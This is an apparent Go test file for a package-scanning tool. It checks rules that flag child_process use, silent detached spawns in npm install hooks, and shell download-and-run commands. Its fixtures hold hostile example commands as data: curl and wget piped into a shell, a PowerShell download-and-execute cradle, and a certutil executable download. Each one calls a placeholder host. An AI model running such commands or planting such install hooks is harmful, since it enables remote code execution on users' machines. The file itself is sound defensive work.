package rules

import "testing"

// installPkg is a package whose postinstall runs install.js.
func installPkg(src string) map[string]string {
	return map[string]string{
		"package.json": manifest("x", map[string]string{"postinstall": "node install.js"}),
		"install.js":   src,
	}
}

func TestProcessExec(t *testing.T) {
	runCases(t, ProcessExec, []ruleCase{
		{"exec", one("a.js", `require('child_process').exec('ls')`), Low, "child_process.exec"},
		{"destructured alias", one("a.js", `const {execSync: run} = require('node:child_process'); run('git status')`), Low, "the command git status"},
		{"module alias", one("a.js", `const cp = require('child_process'); cp.spawn(process.execPath, [])`), Low, "process.execPath"},
		{"fork", one("a.js", `const {fork} = require('child_process'); fork(file)`), Low, "runs file with child_process.fork"},
		{"install time", installPkg(`require('child_process').execFileSync(bin, ['--version'])`), Medium, "install time"},
		{"required from install script", map[string]string{
			"package.json": manifest("x", map[string]string{"preinstall": "node setup.js"}),
			"setup.js":     `require('./lib/run')`,
			"lib/run.js":   `require('child_process').spawnSync('make')`,
		}, Medium, "install time"},
		{"other exec method", one("a.js", `/a/.exec(s); db.exec('select 1')`), "", ""},
		{"no child_process", one("a.js", `const fs = require('fs'); fs.readFileSync('x')`), "", ""},
		{"shadowed name", one("a.js", `function exec(x){return x}; exec('ls')`), "", ""},
	})
}

func TestDetachedSpawn(t *testing.T) {
	runCases(t, DetachedSpawn, []ruleCase{
		{"silent at install", installPkg(`const {spawn} = require('child_process');
const c = spawn(process.execPath, ['bg.js'], {detached: true, stdio: 'ignore'}); c.unref();`), High, "silenced (stdio ignore) and unref'd"},
		{"detached at install, not silenced", installPkg(`require('child_process').spawn('x', [], {detached: true})`), Medium, "detached"},
		{"daemon in library code", one("a.js", `const cp = require('child_process');
cp.spawn(cmd, args, {detached: true, stdio: 'ignore'}).unref()`), Low, "detached"},
		{"not detached", installPkg(`require('child_process').spawn('x', [], {stdio: 'inherit'})`), "", ""},
		{"no options", one("a.js", `require('child_process').spawn('x')`), "", ""},
	})
}

func TestExecShellDownload(t *testing.T) {
	runCases(t, ExecShellDownload, []ruleCase{
		{"curl pipe sh", one("a.js", `require('child_process').execSync('curl -fsSL https://x.invalid/i.sh | sh')`), High, "pipes it into an interpreter"},
		{"wget substitution", one("a.js", `const {exec} = require('child_process'); exec('bash -c "$(wget -qO- http://x.invalid/a)"')`), High, "interpreter"},
		{"powershell", one("a.js", `require('child_process').exec('powershell -c "IEX (New-Object Net.WebClient).DownloadString(\'http://x\')"')`), High, "PowerShell"},
		{"certutil", one("a.js", `require('child_process').exec('certutil -urlcache -split -f http://x/a.exe a.exe')`), High, "Windows system binary"},
		{"plain download", one("a.js", `require('child_process').execSync('curl -L -o tool.tgz https://github.com/o/r/releases/download/v1/t.tgz')`), Medium, "downloads https://github.com"},
		{"ordinary command", one("a.js", `require('child_process').execSync('git rev-parse HEAD')`), "", ""},
		{"not child_process", one("a.js", `console.log('curl https://x | sh')`), "", ""},
	})
}
